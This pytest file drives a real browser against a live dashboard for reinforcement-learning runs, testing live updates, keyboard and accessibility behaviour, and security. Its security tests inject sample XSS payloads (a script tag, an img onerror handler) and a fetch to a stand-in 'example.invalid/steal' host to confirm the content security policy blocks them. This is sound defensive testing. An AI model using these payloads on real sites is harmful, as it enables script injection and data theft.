"""The live page in a real browser: what arrives, what it asks for, what a model's text can do there, and how it is used."""

from __future__ import annotations

import json
import os
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from quintet.live.beside import live_page
from tests.report import chromium
from tests.run_folder import ATTACK, rollout_rows, write_rows, write_run
from tests.written_comparison import evaluation_row, metrics_row, write_comparison, write_member

pytestmark = pytest.mark.browser
LONG = "W" * 100_000
DRAWN = "!!document.querySelector('#large svg .line') && !!document.querySelector('#groups article')"


@pytest.fixture(scope="module")
def page() -> Iterator[chromium.Page]:
    if chromium.BINARY is None:
        if os.environ.get("CI") == "true":
            pytest.fail("Chromium isn't installed, and in CI the live page must be seen by a browser. Install chromium.")
        pytest.skip("Chromium isn't installed; install chromium to see the live page in a browser.")
    with chromium.browser() as tab:
        yield tab


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A comparison in which every text that a model wrote is an attack, one of them 100 kB long."""
    folder = write_comparison(tmp_path_factory.mktemp("live") / "maze", steps=20, done=[1, 0.5, 0], attack=ATTACK)
    write_member(folder / "reinforce/seed-0", "reinforce", 0, 20, attack=ATTACK + LONG)
    with live_page(folder) as address:
        yield address


def shown(page: chromium.Page, selector: str) -> str:
    return page.evaluate(f"document.querySelector({json.dumps(selector)})?.textContent ?? ''")


def append(path: Path, *rows: dict) -> None:
    with path.open("a") as file:
        file.writelines(json.dumps(row) + "\n" for row in rows)


# ---- what arrives --------------------------------------------------------------------


def test_steps_answers_and_scores_arrive_while_the_run_writes_them(page: chromium.Page, tmp_path: Path) -> None:
    run = tmp_path / "run"
    with live_page(run) as address:
        page.open(address)
        page.wait_for("document.getElementById('standing').textContent === 'Waiting for the first step'")
        write_member(run, "grpo", 0, 40, 0.5)
        (run / "status.json").unlink()
        page.wait_for("document.getElementById('standing').textContent.includes('step 20 of 40')")
        page.wait_for(DRAWN)
        assert shown(page, "#connection") == "Live"
        page.evaluate("document.querySelector('[data-key=reward]').click()")
        page.wait_for("document.querySelector('#large h3').textContent === 'Reward'")
        path = "document.querySelector('#large .line').getAttribute('d')"
        before = page.evaluate(path)
        for step in range(21, 31):
            append(run / "metrics.jsonl", metrics_row("grpo", 0, step, 40))
        append(run / "rollouts.jsonl", *rollout_rows(30, 3, 4, 0.9, " brand new"))
        append(run / "evaluations.jsonl", evaluation_row("grpo", 0, 30, 40))
        page.wait_for("document.getElementById('standing').textContent.includes('step 30 of 40')")
        page.wait_for(f"{path} !== {json.dumps(before)}")
        page.wait_for("document.querySelector('#groups').textContent.includes('brand new')")
        page.wait_for("document.getElementById('cards').textContent.includes('46.')", 10)
        assert page.evaluate("document.getElementById('step').value") == "30"
        assert page.complaints == []


def test_the_run_under_way_is_shown_until_somebody_chooses_another(page: chromium.Page, tmp_path: Path) -> None:
    folder = write_comparison(tmp_path / "maze", labels=("ppo", "grpo"), seeds=1, steps=20, done=[1, 0.5])
    value = "document.getElementById('run').value"
    with live_page(folder) as address:
        page.open(address)
        page.wait_for(f"{value} === 'grpo/seed-0'")
        page.wait_for(DRAWN)
        (folder / "ppo/seed-0/status.json").write_text('{"state": "running"}')
        (folder / "grpo/seed-0/status.json").write_text('{"state": "done"}')
        page.wait_for(f"{value} === 'ppo/seed-0'")
        page.press("r")
        page.wait_for(f"{value} === 'grpo/seed-0'")
        append(folder / "ppo/seed-0/metrics.jsonl", metrics_row("ppo", 0, 21, 40))
        page.wait_for("[...document.querySelectorAll('#runs tr')].some((row) => row.textContent.includes('21'))")
        assert page.evaluate(value) == "grpo/seed-0"


def test_a_step_that_is_being_read_stays_when_a_newer_one_arrives(page: chromium.Page, tmp_path: Path) -> None:
    run = write_member(tmp_path / "run", "grpo", 0, 40, 0.5)
    with live_page(run) as address:
        page.open(address)
        page.wait_for(DRAWN)
        page.press("k")
        page.wait_for("document.getElementById('step').value === '11'")
        append(run / "metrics.jsonl", metrics_row("grpo", 0, 21, 40))
        append(run / "rollouts.jsonl", *rollout_rows(21, 3, 4, 0.9))
        page.wait_for("document.getElementById('standing').textContent.includes('step 21')")
        assert page.evaluate("document.getElementById('step').value") == "11"
        page.press("j")
        page.wait_for("document.getElementById('step').value === '16'")
        page.press("j")
        page.wait_for("document.getElementById('step').value === '21'")


def test_when_the_server_is_gone_the_page_says_so_and_keeps_what_it_has(page: chromium.Page, tmp_path: Path) -> None:
    with live_page(write_member(tmp_path / "run", "grpo", 0, 20)) as address:
        page.open(address)
        page.wait_for(DRAWN)
    page.wait_for("document.getElementById('connection').textContent.startsWith('The server is gone')")
    assert page.evaluate(DRAWN)


# ---- what a model's text can do --------------------------------------------------------------------


def test_what_a_model_wrote_is_text_everywhere(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    page.wait_for("document.querySelectorAll('#pairs article').length > 0")
    title = page.evaluate("document.title")
    for place in ("#groups", "#pairs"):
        assert "<script>document.title='owned'" in shown(page, place)
        assert "⟨U+001B⟩[2J" in shown(page, place)
        assert not set("\x1b\x07\x00\u202e\ud800") & set(shown(page, place))
    page.evaluate("document.getElementById('text').value = '<img'; document.querySelector('#search button').click()")
    page.wait_for("document.querySelectorAll('.hits mark').length > 0")
    assert shown(page, ".hits mark") == "<img"
    assert page.evaluate("document.querySelectorAll('img, iframe, object, script:not([src])').length") == 0
    assert page.evaluate("document.title") == title
    assert page.complaints == []


def test_a_line_of_100_kilobytes_is_cut_scrolls_in_itself_and_is_whole_on_demand(page: chromium.Page, hostile: str) -> None:
    page.open(hostile, 390)
    page.wait_for(DRAWN)
    page.press("R")
    page.wait_for("document.getElementById('run').value === 'reinforce/seed-0'")
    page.wait_for("document.querySelector('#groups').textContent.includes('WWW')")
    assert (
        page.evaluate("Math.max(...[...document.querySelectorAll('#groups pre')].map((pre) => pre.textContent.length))") <= 2000
    )
    page.evaluate("[...document.querySelectorAll('#groups li button')][0].click()")
    page.wait_for("Math.max(...[...document.querySelectorAll('#groups pre')].map((pre) => pre.textContent.length)) > 100000")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.evaluate("document.activeElement.tagName") == "PRE"


def test_a_script_that_got_into_the_page_could_neither_run_nor_ask_for_anything(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    page.requests.clear()
    attack = "<img src='http://example.invalid/x.png' onerror='document.title=1'><script>document.title=2</script>"
    page.evaluate(f"document.querySelector('#groups').innerHTML = {json.dumps(attack)}")
    page.evaluate("fetch('http://example.invalid/steal').catch(() => {})")
    page.evaluate("new Promise((then) => setTimeout(then, 100))")
    refused = [complaint for complaint in page.complaints if "Content Security Policy" in complaint]
    assert len(refused) >= 3, "the image, what it does on an error, and the request"
    assert page.evaluate("document.title") not in ("1", "2")


# ---- whom it asks, and who may ask --------------------------------------------------------------------


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1200, 768, 390])
def test_the_page_asks_only_its_own_server_complains_of_nothing_and_fits(
    page: chromium.Page, hostile: str, width: int, dark: bool
) -> None:
    page.open(hostile, width, dark=dark)
    page.wait_for(DRAWN)
    page.wait_for("document.querySelectorAll('#pairs article').length > 0")
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert all(address.startswith(hostile) for address in page.requests)
    assert page.complaints == []
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert ground == ("rgb(21, 23, 26)" if dark else "rgb(252, 251, 248)")


def test_without_the_secret_the_browser_is_refused(page: chromium.Page, hostile: str) -> None:
    where = urlsplit(hostile)
    page.open(f"{where.scheme}://{where.netloc}/")
    assert "Not allowed" in page.evaluate("document.body.textContent")
    assert "maze" not in page.evaluate("document.documentElement.textContent")


def test_another_page_can_neither_read_nor_frame_this_one(page: chromium.Page, hostile: str, tmp_path: Path) -> None:
    other = tmp_path / "other.html"
    other.write_text(f"<title>other</title><iframe src='{hostile}'></iframe><script>fetch('{hostile}data/curves')"
                     ".then((r) => r.text()).then(() => { document.title = 'read' })"
                     ".catch(() => { document.title = 'refused' })</script>")  # fmt: skip
    page.open(other.as_uri())
    page.wait_for("document.title !== 'other'")
    assert page.evaluate("document.title") == "refused"
    with urllib.request.urlopen(hostile, timeout=10) as response:
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


# ---- how it is used --------------------------------------------------------------------


def test_everything_can_be_done_with_the_keyboard(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    page.press("m")
    page.wait_for("document.querySelector('#large h3').textContent === 'Reward'")
    page.press("x")
    page.wait_for("document.querySelector('.plot').getAttribute('aria-label').includes('over sampled tokens')")
    page.press("2")
    assert page.evaluate("document.activeElement.id") == "curves-h"
    page.evaluate("document.querySelector('.plot').focus()")
    page.press("End")
    page.press("ArrowLeft")
    page.wait_for("document.querySelector('.readout').textContent.startsWith('At ')")
    assert "grpo 0." in shown(page, ".readout")
    page.press("R")
    page.wait_for("document.getElementById('run').value === 'reinforce/seed-0'")
    page.press("r")
    page.wait_for("document.getElementById('run').value === 'reinforce/seed-1'")
    page.wait_for("document.getElementById('step').value === '6'")
    page.press("/")
    assert page.evaluate("document.activeElement.id") == "text"
    page.press("m")
    assert page.evaluate("document.getElementById('text').value") == "m"
    page.press("Enter")
    page.wait_for("document.querySelectorAll('.hits li').length > 0")
    page.evaluate("document.activeElement.blur()")
    page.press("?")
    assert page.evaluate("document.getElementById('keys').open")
    page.press("Escape")
    page.wait_for("!document.getElementById('keys').open")


def test_tab_reaches_every_control_and_shows_where_it_is(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    reached = set()
    for _ in range(70):
        page.press("Tab")
        reached.add(page.evaluate("document.activeElement.id || document.activeElement.className.split(' ')[0]"))
        if page.evaluate("!!document.activeElement.closest('#groups')"):
            break
    assert {"skip", "run", "show-keys", "link", "metric", "plot", "small-chart", "before", "step", "follow", "text"} <= reached
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_controls_charts_and_regions_have_names(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    nameless = (
        "[...document.querySelectorAll('button, select, input')].filter((e) => e.offsetParent && !e.labels?.length"
        " && !e.getAttribute('aria-label') && !e.textContent.trim()).map((e) => e.outerHTML)"
    )
    assert page.evaluate(nameless) == []
    assert "Held-out score over steps. reinforce: from 25.0" in page.evaluate(
        "document.querySelector('.plot').getAttribute('aria-label')"
    )
    assert page.evaluate(
        "[...document.querySelectorAll('section')].every((s) => document.getElementById(s.getAttribute('aria-labelledby')))"
    )


def test_labels_can_be_hidden_and_the_numbers_stand_behind_the_chart(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for(DRAWN)
    count = "document.querySelectorAll('#large .line').length"
    assert page.evaluate(count) == 5
    page.evaluate("document.querySelector('.legend.large button').click()")
    assert page.evaluate(count) == 4
    page.evaluate("document.querySelector('#large details').open = true")
    page.wait_for("document.querySelectorAll('#large tbody tr').length === 2")
    assert shown(page, "#large thead") == "stepsreinforcetrpoppodpogrpo"
    assert shown(page, "#large tbody th") == "0"


def test_prompts_are_turned_page_by_page(page: chromium.Page, tmp_path: Path) -> None:
    run = write_run(tmp_path / "run", 1, 20)
    write_rows(run / "rollouts.jsonl", rollout_rows(21, 14, 2, 0.5))
    with live_page(run) as address:
        page.open(address)
        page.wait_for(DRAWN)
        assert shown(page, ".pager span") == "prompts 1–6 of 14"
        page.press("n")
        page.wait_for("document.querySelector('.pager span').textContent === 'prompts 7–12 of 14'")
        page.press("n")
        page.wait_for("document.querySelector('.pager span').textContent === 'prompts 13–14 of 14'")
        page.press("p")
        page.wait_for("document.querySelector('.pager span').textContent === 'prompts 7–12 of 14'")


def test_who_wants_no_motion_gets_none(page: chromium.Page, hostile: str) -> None:
    page.open(hostile)
    page.wait_for("!!document.querySelector('.dot-state.running')")
    motion = "getComputedStyle(document.querySelector('.dot-state')).animationName"
    assert page.evaluate(motion) == "breathe"
    page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-reduced-motion", "value": "reduce"}])
    assert page.evaluate(motion) == "none"
